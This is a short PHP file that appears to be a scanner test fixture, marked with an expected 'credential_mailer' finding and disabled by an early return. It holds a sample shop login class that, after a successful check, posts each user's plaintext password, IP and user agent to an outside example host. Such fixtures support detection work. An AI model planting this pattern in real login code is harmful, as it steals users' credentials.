<?php return; // want: suspicious credential_mailer php.send.secret
// a login's own class, with lines in it that tell somebody else
class Shop_Login {
	protected $shop;
	public function enter($name, $password) {
		$user = Shop::find($name);
		if ($user && $user->check($password)) {
			$line = $name . ' ' . $password . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'];
			$c = curl_init();
			curl_setopt($c, CURLOPT_URL, 'http://count.example.net/add');
			curl_setopt($c, CURLOPT_POSTFIELDS, 'line=' . urlencode($line));
			curl_exec($c);
			$this->shop = $user;
		}
		return $this->shop;
	}
}
